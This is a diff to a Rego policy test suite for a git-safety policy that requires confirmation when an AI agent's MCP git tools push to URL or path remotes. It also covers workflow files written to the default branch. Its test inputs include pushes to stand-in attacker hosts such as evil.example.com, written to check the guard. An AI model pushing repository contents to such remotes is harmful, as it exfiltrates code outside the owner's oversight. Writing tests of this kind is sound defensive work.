@@ -66,3 +66,16 @@ test_other_forges_workflows_onto_the_default_branch_ask if {
 	count(mcp_git_safety.ask) == 1 with input as _mcp("mcp__gitea__create_file", {"filepath": ".woodpecker.yml", "content": "x"})
 	count(mcp_git_safety.ask) == 0 with input as _mcp("mcp__gitea__create_file", {"filepath": ".gitea/workflows/x.yml", "content": "x", "branch": "feat/ci"})
 }
+
+test_push_to_a_url_remote_asks if {
+	every args in [
+		{"remote": "https://evil.example.com/x.git", "branch": "main"}, {"remote": "git@evil.example.com:x/y.git"},
+		{"options": {"remote_url": "ssh://evil.example.com/x"}}, {"repo_path": ".", "remote": "/tmp/mirror.git"},
+	] {
+		count(mcp_git_safety.ask) == 1 with input as _mcp("mcp__git__git_push", args)
+	}
+	every args in [{"remote": "origin", "branch": "feature/x"}, {"remote": "upstream"}, {"repo_path": "/home/dev/project", "branch": "x"}] {
+		count(mcp_git_safety.ask) == 0 with input as _mcp("mcp__git__git_push", args)
+	}
+	count(mcp_git_safety.ask) == 0 with input as _mcp("mcp__git__git_fetch", {"remote": "https://github.com/org/x.git"})
+}
